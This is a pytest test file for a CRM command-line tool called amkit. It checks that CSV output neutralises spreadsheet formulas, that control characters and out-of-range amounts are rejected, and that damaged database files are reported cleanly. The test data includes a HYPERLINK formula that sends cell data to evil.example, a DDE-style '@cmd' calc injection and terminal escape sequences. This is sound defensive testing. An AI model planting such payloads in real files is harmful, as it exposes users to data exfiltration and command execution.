"""Issue 25, bad input and faults: formula-neutralised CSV everywhere, control characters,
the money range, `config set` validation, non-UTF-8 arguments, over-long names, damaged files."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3

import pytest

from conftest import BACKEND

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TABLES = ("managers", "customers", "contacts", "deals", "payments", "goals", "followups", "audit_log")


@pytest.fixture
def dump(sql):
    def take():  # noqa: ANN202
        return {t: sql(f"SELECT * FROM {t} ORDER BY id") for t in TABLES}
    return take


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def assert_neutral(text: str) -> None:
    """No cell a spreadsheet would run: = + - @ tab CR only behind an apostrophe or as a number."""
    for cell in cells(text):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain number may start with + or -


# --- 1. one formula-neutralising CSV writer --------------------------------------------------

def test_the_one_csv_cell_definition_keeps_numbers_and_neutralises_formulas():
    from decimal import Decimal

    from amkit.ui.render import csv_cell

    assert [csv_cell(v) for v in (-5, Decimal("-5.00"), -0.5, "-5", "+3.50", 0)] == \
        ["-5", "-5.00", "-0.5", "-5", "+3.50", "0"]
    assert [csv_cell(v) for v in ("=1+2", "+1+2", "-5+1", "@cmd", "\tx", "\rx", "-", "a=b", "")] == \
        ["'=1+2", "'+1+2", "'-5+1", "'@cmd", "'\tx", "'\rx", "'-", "a=b", ""]


def test_every_csv_command_neutralises_hyperlink_and_at_cmd(cli, tmp_path, sql):
    assert cli("manager", "add", "@cmd", "--team", "=1+1").exit_code == 0
    assert cli("customer", "add", EVIL, "--owner", "@cmd", "--industry", "@SUM(A1)", "--tag", "-2+3").exit_code == 0
    r = cli("deal", "add", EVIL, "--title", "@cmd|' /C calc'!A0", "--amount", "1200", "--stage", "won")
    assert r.exit_code == 0, r.stderr
    assert cli("tier", "run").exit_code == 0
    outputs = {}
    for args in (["customer", "list"], ["manager", "list"], ["deal", "list"], ["tier", "list"],
                 ["report", "pareto"]):
        r = cli(*args, "-f", "csv")
        assert r.exit_code == 0, (args, r.stderr)
        outputs[" ".join(args)] = r.stdout
    for name, text in outputs.items():
        assert_neutral(text)
    assert "'" + EVIL in cells(outputs["customer list"]) and "'@cmd" in cells(outputs["customer list"])
    assert "'" + EVIL in cells(outputs["deal list"]) and "'@cmd|' /C calc'!A0" in cells(outputs["deal list"])
    assert "'=1+1" in cells(outputs["manager list"])
    assert "'" + EVIL in cells(outputs["tier list"])
    assert "'" + EVIL in cells(outputs["report pareto"])
    # export and the rejected rows of an import go through the same definition
    out = tmp_path / "customers.csv"
    assert cli("export", "customers", "-o", out).exit_code == 0
    assert_neutral(out.read_text(encoding="utf-8"))
    src = tmp_path / "in.csv"
    src.write_text(f'name,tier\n"{EVIL.replace(chr(34), chr(34) * 2)}",Z\n@cmd,Q\nok,A\n-5,B\n', encoding="utf-8")
    r = cli("import", "customers", src, "--skip-invalid")
    assert r.exit_code == 0, r.stderr
    rejected = (tmp_path / "in.rejected.csv").read_text(encoding="utf-8-sig")
    assert_neutral(rejected)
    assert "'" + EVIL in cells(rejected) and "'@cmd" in cells(rejected)
    # the rejected file, fixed, imports back exactly (the apostrophe is stripped again)
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(rejected.replace(",Z,", ",A,").replace(",Q,", ",B,"), encoding="utf-8")
    second = tmp_path / "second.db"
    if BACKEND == "sqlite":
        assert cli("--db", second, "import", "customers", fixed, "--map", "error=-").exit_code == 0
        names = sorted(r[0] for r in sqlite3.connect(second).execute("SELECT name FROM customers"))
        assert names == sorted([EVIL, "@cmd"])


# --- 2. control characters ----------------------------------------------------------------

@pytest.mark.parametrize("args, field", [
    (["customer", "add", "Evil\x1b[31mRed"], "name"),
    (["customer", "add", "two\nlines"], "name"),
    (["customer", "add", "ok", "--region", "a\x07b"], "region"),
    (["customer", "add", "ok", "--tag", "vip\x1b[2J"], "tag"),
    (["manager", "add", "Zhang\tWei"], "name"),
    (["manager", "add", "Li", "--team", "East\u202eTSAE"], "team"),
    (["deal", "add", "中国银行", "--title", "big\x00deal", "--amount", "5", "--stage", "won"], "title"),
    (["kb", "add", "--title", "t\x1b]0;pwned\x07", "--body", "b"], "--title"),
])
def test_control_characters_in_names_exit_2_naming_the_field(cli, dump, args, field):
    cli("customer", "add", "中国银行")
    before = dump()
    r = cli(*args)
    assert r.exit_code == 2, r.stderr
    line = r.stderr.strip()
    assert "\n" not in line and "\x1b" not in line and line.startswith(f"amkit: invalid {field} ")
    assert "control characters" in line
    assert dump() == before


def test_multiline_text_keeps_newlines_but_not_escapes(cli, sql):
    cli("customer", "add", "中国银行")
    assert cli("followup", "log", "中国银行", "--channel", "call", "--summary", "line one\nline two").exit_code == 0
    r = cli("followup", "log", "中国银行", "--channel", "call", "--summary", "x\x1b[31m")
    assert r.exit_code == 2 and "--summary" in r.stderr
    assert sql("SELECT summary FROM followups") == [("line one\nline two",)]


def test_tables_show_control_characters_as_escapes_even_on_a_pipe(cli, sh, sql):
    cli("customer", "add", "中国银行")
    # written around amkit's checks, as an older version or another tool might have
    sql("UPDATE customers SET name = ?, region = ? WHERE name = ?", "Evil\x1b[31mRed\x1b]0;t\x07", "a\nb", "中国银行")
    r = sh("customer", "list")
    assert r.exit_code == 0, r.stderr
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "Evil\\x1b[31mRed\\x1b]0;t\\x07" in r.stdout and "a\\nb" in r.stdout
    assert len(r.stdout.strip().splitlines()) == 3  # header, rule, one row: the newline did not split it
    r = sh("customer", "show", "Evil")
    assert "\x1b" not in r.stdout and "Evil\\x1b[31m" in r.stdout
    # JSON escapes by itself; CSV keeps the data (neutralised where it would be a formula)
    assert cli("customer", "list", "-f", "json").json()[0]["name"] == "Evil\x1b[31mRed\x1b]0;t\x07"


def test_rich_table_on_a_terminal_gets_no_escape_sequence_from_data(cli):
    from amkit.ui.render import Col, write_table

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = Tty()
    write_table([{"name": "A\x1b[2JB [bold]x[/bold]"}], [Col("name", "Name")], out)
    text = out.getvalue()
    assert "\x1b[2J" not in text and "A\\x1b[2JB" in text and "[bold]x[/bold]" in text


# --- 3. the money range -----------------------------------------------------------------

@pytest.mark.parametrize("args, field", [
    (["deal", "add", "中国银行", "--title", "t", "--amount", "92233720368547758.07", "--stage", "won"], "amount"),
    (["deal", "add", "中国银行", "--title", "t", "--amount", "1000000000.01", "--stage", "won"], "amount"),
    (["deal", "add", "中国银行", "--title", "t", "--amount", "1e309", "--stage", "won"], "amount"),
    (["deal", "add", "中国银行", "--title", "t", "--amount", "NaN", "--stage", "won"], "amount"),
    (["goal", "set", "--period", "2026Q4", "--owner", "张伟", "--metric", "revenue", "--target", "1e309"], "target"),
    (["goal", "set", "--period", "2026Q4", "--owner", "张伟", "--metric", "revenue", "--target", "NaN"], "target"),
    (["goal", "set", "--period", "2026Q4", "--owner", "张伟", "--metric", "revenue", "--target", "inf"], "target"),
    (["goal", "set", "--period", "2026Q4", "--owner", "张伟", "--metric", "visits", "--target", "1e13"], "target"),
])
def test_amounts_outside_the_range_exit_2_and_store_nothing(cli, dump, args, field):
    cli("manager", "add", "张伟")
    cli("customer", "add", "中国银行", "--owner", "张伟")
    before = dump()
    r = cli(*args)
    assert r.exit_code == 2, r.stderr
    assert r.stderr.startswith(f"amkit: invalid {field} ") and len(r.stderr.strip().splitlines()) == 1
    assert dump() == before


def test_largest_allowed_amounts_sum_without_overflow_in_every_report(cli, sql):
    """Ten deals and ten payments of the largest amount (10^9 yuan) for one customer: every report
    sums them exactly (10^10 yuan = 10^12 cents, far inside int64: see amkit.core.parse)."""
    cli("manager", "add", "张伟")
    cli("customer", "add", "中国银行", "--owner", "张伟")
    cli("customer", "add", "小客户", "--owner", "张伟")
    for i in range(10):
        r = cli("deal", "add", "中国银行", "--title", f"d{i}", "--amount", "1000000000", "--stage", "won",
                "--created", "2026-10-01")
        assert r.exit_code == 0, r.stderr
        assert cli("payment", "add", str(i + 1), "1000000000", "--date", "2026-11-01").exit_code == 0, i
    cli("deal", "add", "小客户", "--title", "s", "--amount", "0.01", "--stage", "won", "--created", "2026-10-01")
    r = cli("goal", "set", "--period", "2026Q4", "--owner", "张伟", "--metric", "revenue",
            "--target", "1000000000000")
    assert r.exit_code == 0, r.stderr
    assert sql("SELECT sum(amount_cents) FROM deals")[0][0] == 10 * 10**11 + 1
    card = cli("score", "card", "--period", "2026Q4", "-f", "json")
    assert card.exit_code == 0, card.stderr
    pareto = cli("report", "pareto", "-f", "json")
    assert pareto.exit_code == 0, pareto.stderr
    top = [row for row in pareto.json() if row.get("customer") == "中国银行"][0]
    assert any(v == 10**10 for v in top.values() if isinstance(v, (int, float))), top
    tiers = cli("tier", "run")
    assert tiers.exit_code == 0, tiers.stderr
    for args in (["goal", "progress", "--period", "2026Q4", "--owner", "张伟"], ["review", "--period", "2026Q4"]):
        r = cli(*args)
        assert r.exit_code == 0, (args, r.stderr)
    progress = cli("goal", "progress", "--period", "2026Q4", "--owner", "张伟", "-f", "json")
    assert "10000000000.01" in progress.stdout.replace(",", "") or "1e10" in progress.stdout or \
        "10000000000.01" in str(progress.json())


# --- 4. config set ------------------------------------------------------------------------

@pytest.mark.parametrize("key, value, words", [
    ("cadance.A", "5", ["'cadance.A'", "did you mean cadence.A"]),
    ("score.weights.revnue", "5", ["did you mean score.weights.revenue"]),
    ("nothing.here", "5", ["'nothing.here'"]),
    ("cadence.A", "nan", ["cadence.A", "'nan'"]),
    ("cadence.A", "inf", ["cadence.A", "'inf'"]),
    ("cadence.A", "0", ["cadence.A", "'0'"]),
    ("cadence.A", "99999999", ["cadence.A", "'99999999'"]),
    ("cadence.A", "2.5", ["cadence.A", "'2.5'"]),
    ("cadence.A", "often", ["cadence.A", "'often'"]),
    ("notify.timeout", "nan", ["notify.timeout", "'nan'"]),
    ("notify.timeout", "1e308", ["notify.timeout", "'1e308'"]),
    ("notify.retries", "many", ["notify.retries", "'many'"]),
    ("pipeline.probability.won", "2", ["pipeline.probability.won", "'2'"]),
    ("score.weights.revenue", "1e400", ["score.weights.revenue"]),
    ("language", "fr", ["language", "'fr'"]),
    ("currency", "\x1b[31m", ["currency"]),
    ("lifecycle.churn_days", "true", ["lifecycle.churn_days", "'true'"]),
])
def test_config_set_refuses_unknown_keys_and_absurd_values(cli, env, key, value, words):
    from pathlib import Path

    cfg = Path(env["AMKIT_CONFIG"])
    assert cli("config", "set", "cadence.B", "10").exit_code == 0
    before = cfg.read_bytes()
    r = cli("config", "set", key, value)
    assert r.exit_code == 2, r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and all(w in r.stderr for w in words), r.stderr
    assert cfg.read_bytes() == before


def test_config_set_accepts_valid_values_with_their_types(cli):
    for key, value in (("cadence.A", "5"), ("cadence.industry.金融", "3"), ("notify.timeout", "2.5"),
                       ("pipeline.probability.quote", "0.4"), ("language", "zh"), ("review.top_followups", "0"),
                       ("pipeline.reason_codes", "price,other")):
        r = cli("config", "set", key, value)
        assert r.exit_code == 0, (key, r.stderr)
    assert cli("config", "get", "cadence.industry.金融").stdout.strip() == "3"
    assert cli("config", "get", "notify.timeout").stdout.strip() == "2.5"


# --- 5. arguments and names -------------------------------------------------------------

def test_non_utf8_argument_is_one_clean_line(sh, dump):
    import os
    import subprocess
    import sys

    before = dump()

    proc = subprocess.run([sys.executable.encode(), b"-m", b"amkit", b"customer", b"add", b"bad\xff\xfename"],
                          capture_output=True, env={**os.environ, **_env_of(sh)})
    err = proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == 2, err
    assert len(err.strip().splitlines()) == 1 and "not valid UTF-8" in err and "Traceback" not in err
    assert dump() == before


def _env_of(sh):  # noqa: ANN001, ANN202
    """The environment the `sh` fixture runs amkit with."""
    for cell in sh.__closure__ or ():
        value = cell.cell_contents
        if isinstance(value, dict) and "AMKIT_TODAY" in value:
            return value
    raise AssertionError("no env in sh")


@pytest.mark.parametrize("args, field, limit", [
    (["customer", "add", "客" * 301], "name", 300),
    (["manager", "add", "m" * 201], "name", 200),
    (["contact", "add", "中国银行", "c" * 201], "name", 200),
    (["kb", "add", "--title", "t" * 301, "--body", "b"], "--title", 300),
])
def test_names_over_the_column_length_exit_2_naming_field_and_limit(cli, dump, args, field, limit):
    cli("customer", "add", "中国银行")
    before = dump()
    r = cli(*args)
    assert r.exit_code == 2, r.stderr
    line = r.stderr.strip()
    assert "\n" not in line and line.startswith(f"amkit: invalid {field} ") and f"longer than {limit}" in line
    assert dump() == before
    ok = [a if len(a) <= limit else a[:limit] for a in args]
    assert cli(*ok).exit_code == 0  # exactly the limit is fine


# --- 6. a damaged database file -----------------------------------------------------------

def _damage(path, how: str) -> None:  # noqa: ANN001
    size = path.stat().st_size
    if how == "middle":
        with open(path, "r+b") as fh:
            fh.seek(4096)  # page 2 onwards: the schema's and the tables' first pages
            fh.write(b"\xde\xad\xbe\xef" * ((size - 4096) // 8))
    elif how == "truncated":
        with open(path, "r+b") as fh:
            fh.truncate(size // 3)
    elif how == "not-sqlite":
        path.write_bytes(b"PK\x03\x04 this is a zip file, not a database" * 100)
    elif how == "header":
        with open(path, "r+b") as fh:
            fh.write(b"X" * 100)


@pytest.mark.skipif(BACKEND != "sqlite", reason="a database file is SQLite's")
@pytest.mark.parametrize("how", ["middle", "truncated", "not-sqlite", "header"])
def test_a_damaged_file_gives_one_line_exit_4_for_every_command(cli, sh, env, how):
    from pathlib import Path

    db = Path(env["AMKIT_DB"])
    assert cli("demo").exit_code == 0
    from amkit.store import engine

    engine.dispose()
    for side in ("-wal", "-shm"):
        Path(str(db) + side).unlink(missing_ok=True)
    _damage(db, how)
    damaged = db.read_bytes()
    for args in (["customer", "list"], ["customer", "show", "1"], ["deal", "list"], ["score", "card"],
                 ["remind"], ["customer", "add", "新客户"], ["audit", "verify"], ["tier", "run"]):
        r = sh(*args)
        assert r.exit_code == 4, (how, args, r.exit_code, r.stderr)
        lines = r.stderr.strip().splitlines()
        assert len(lines) == 1 and "is damaged" in lines[0] and "amkit restore BACKUP" in lines[0], (how, args, r.stderr)
    r = sh("doctor")
    assert r.exit_code == 4
    assert "is damaged" in r.stdout and "amkit restore BACKUP" in r.stdout and len(r.stderr.strip().splitlines()) == 1
    assert db.read_bytes() == damaged  # nothing tried to write or "repair" it
